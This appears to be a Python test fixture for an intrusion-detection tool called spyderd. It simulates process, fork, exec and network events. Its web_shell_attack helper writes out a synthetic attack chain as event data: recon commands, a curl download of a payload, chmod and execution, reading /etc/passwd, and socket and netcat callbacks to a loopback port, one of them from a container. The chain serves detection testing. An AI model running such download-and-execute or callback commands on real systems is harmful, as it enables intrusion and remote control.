"""A small world of processes on a real LMDB store, built from synthetic events."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from spyderd.capture.snapshot import ProcInfo
from spyderd.findings.intake import Findings
from spyderd.graph import Graph, Store
from spyderd.model import (
    AcceptEvent,
    AlertEvent,
    ConnectEvent,
    ExecEvent,
    ForkEvent,
    ListenEvent,
    Node,
)
from spyderd.traces.fold import Folder
from spyderd.traces.suppress import load_suppressions
from spyderd.traces.tracker import TraceTracker

BOOT = "b00t"
S = 1_000_000_000
T0 = 1_700_000_000 * S


@dataclass
class FakeRule:
    name: str
    severity: str = "high"
    priority: int = 3
    tags: list[str] = field(default_factory=lambda: ["T1059.004"])
    message_id: str = "0" * 32


@dataclass
class FakeMatch:
    rule: FakeRule
    output: str = "matched"
    refs: list[Node] = field(default_factory=list)


class World:
    """Processes, servers and connections; `t` advances one second per step."""

    def __init__(self, tmp_path) -> None:
        self.store = Store(tmp_path)
        self.graph = Graph(self.store, BOOT, boot_wall_ns=T0)
        self.graph.load_snapshot([ProcInfo(pid=1, ppid=0, start_ns=0, comm="init",
                                           exe="/sbin/init", args=["/sbin/init"])])
        self.t = T0 + 10 * S

    def tick(self) -> int:
        self.t += S
        return self.t

    def run(self, pid: int, ppid: int, exe: str, *args: str, **attrs: Any) -> Node:
        """fork from ppid, then exec `exe`; attrs go on the exec'd image (and the copy)."""
        copy = self.graph.apply(ForkEvent(time=self.tick(), ktime=self.t, pid=pid, ppid=ppid,
                                          child_start=self.t, comm="x"))
        copy.attrs.update(attrs)
        node = self.graph.apply(ExecEvent(time=self.tick(), ktime=self.t, pid=pid, filename=exe,
                                          args=[exe, *args], start=copy.attrs["start_ns"],
                                          comm=exe.rsplit("/", 1)[-1][:15]))
        node.attrs.update(attrs)
        return node

    def exec(self, pid: int, exe: str, *args: str) -> Node:
        prev = self.graph.live[pid]
        return self.graph.apply(ExecEvent(time=self.tick(), ktime=self.t, pid=pid, filename=exe,
                                          args=[exe, *args], start=prev.attrs["start_ns"],
                                          comm=exe.rsplit("/", 1)[-1][:15]))

    def listen(self, pid: int, port: int) -> Node:
        return self.graph.apply(ListenEvent(time=self.tick(), ktime=self.t, pid=pid, family=4,
                                            local_ip="127.0.0.1", local_port=port))

    def accept(self, pid: int, port: int, from_port: int) -> Node:
        return self.graph.apply(AcceptEvent(time=self.tick(), ktime=self.t, pid=pid, family=4,
                                            local_ip="127.0.0.1", local_port=port,
                                            remote_ip="127.0.0.1", remote_port=from_port))

    def connect(self, pid: int, port: int, local_port: int = 40000) -> Node:
        return self.graph.apply(ConnectEvent(time=self.tick(), ktime=self.t, pid=pid, family=4,
                                             local_ip="127.0.0.1", local_port=local_port,
                                             remote_ip="10.0.0.9", remote_port=port))

    def alert(self, node: Node, message: str) -> Node:
        return self.graph.apply(AlertEvent(time=self.tick(), pid=node.pid, message=message,
                                           identifier="app", priority=4,
                                           cursor=f"c{self.t}", process_id=node.id))

    def web_server(self, pid: int = 100, port: int = 8080) -> Node:
        srv = self.run(pid, 1, "/usr/sbin/nginx", "-g", "daemon off;")
        self.listen(pid, port)
        return srv


def web_shell_attack(w: World) -> dict[str, Node]:
    """The integration test's web-shell attack, replayed: recon, download, chmod, run,
    callback, and a container whose shell calls back too (about 30 process images)."""
    from spyderd.model import FileEvent, WroteExecEvent

    srv = w.run(100, 1, "/usr/bin/python3", "/srv/app/attack_server.py", "8080")
    w.listen(100, 8080)
    w.accept(100, 8080, 51000)
    handler = w.run(150, 100, "/bin/sh", "-c", "id; uname -a; whoami; curl -s -o "
                    "/tmp/spyder-payload-1a2b3c4d http://127.0.0.1:9999/payload; chmod +x "
                    "/tmp/spyder-payload-1a2b3c4d; /tmp/spyder-payload-1a2b3c4d 7777; runc run")
    out = {"server": srv, "shell": handler}
    for i, argv in enumerate((["/usr/bin/id"], ["/usr/bin/uname", "-a"], ["/usr/bin/whoami"],
                              ["/usr/bin/hostname"], ["/bin/cat", "/etc/passwd"],
                              ["/bin/ps", "aux"], ["/bin/ls", "-la", "/var/www"],
                              ["/usr/bin/env"])):
        out[argv[0].rsplit("/", 1)[-1]] = w.run(160 + i, 150, *argv)
    curl = out["curl"] = w.run(170, 150, "/usr/bin/curl", "-s", "-o",
                               "/tmp/spyder-payload-1a2b3c4d", "http://127.0.0.1:9999/payload")
    w.connect(170, 9999, local_port=41000)
    w.graph.apply(FileEvent(time=w.tick(), pid=170, op="create",
                            path="/tmp/spyder-payload-1a2b3c4d", inode=9, dev=1))
    out["chmod"] = w.run(171, 150, "/bin/chmod", "+x", "/tmp/spyder-payload-1a2b3c4d")
    out["payload"] = w.run(172, 150, "/tmp/spyder-payload-1a2b3c4d", "7777")
    w.graph.apply(WroteExecEvent(time=w.tick(), pid=172, path="/tmp/spyder-payload-1a2b3c4d",
                                 inode=9, dev=1, writer_pid=170,
                                 writer_start=curl.attrs["start_ns"], write_time=w.t - S))
    out["callback"] = w.exec(172, "/usr/bin/python3", "-c", "import socket,sys; "
                             "socket.create_connection(('127.0.0.1', int(sys.argv[1])))", "7777")
    w.connect(172, 7777, local_port=41001)
    runc = out["runc"] = w.run(173, 150, "/usr/sbin/runc", "run", "--bundle",
                               "/tmp/pytest-of-root/bundle", "spyder-atk-1a2b3c4d")
    ctr = {"container_id": "spyder-atk-1a2b3c4d", "container_name": "victim-1a2b3c4d"}
    init = w.run(180, 173, "/bin/sh", "-c", "id; nc 127.0.0.1 7777 </dev/null; sleep 1", **ctr)
    out["ctr_id"] = w.run(181, 180, "/bin/busybox", "id", **ctr)
    out["nc"] = w.run(182, 180, "/bin/busybox", "nc", "127.0.0.1", "7777", **ctr)
    w.connect(182, 7777, local_port=41002)
    out["sleep"] = w.run(183, 180, "/bin/busybox", "sleep", "1", **ctr)
    out["ctr_sh"] = init
    del runc
    for i in range(6):  # housekeeping by the shell: more one-off commands
        w.run(190 + i, 150, "/bin/true", str(i))
    return out


class FakeSink:
    name = "journald"

    def __init__(self) -> None:
        self.up = True
        self.findings: list = []
        self.traces: list = []
        self.errors = 0

    def send(self, f) -> bool:
        if not self.up:
            self.errors += 1
            return False
        self.findings.append(f.to_dict())
        return True

    def send_trace(self, tr) -> bool:
        if not self.up:
            self.errors += 1
            return False
        self.traces.append(tr.to_dict())
        return True

    def status(self) -> dict:
        return {"errors": self.errors}


def pipeline(w: World, sink: FakeSink, suppress: list[str] | None = None) -> Findings:
    tracker = TraceTracker(threshold=40, settle=2.0, sinks=(sink.name,), lookup=w.store.trace)
    return Findings(w.graph, w.store, [sink], tracker, Folder(60.0),
                    load_suppressions(suppress or []), settle=1.0)


def ev_of(node) -> ExecEvent:
    return ExecEvent(time=node.start, pid=node.pid, filename=node.attrs["exe"],
                     args=node.attrs["args"], process_id=node.id)
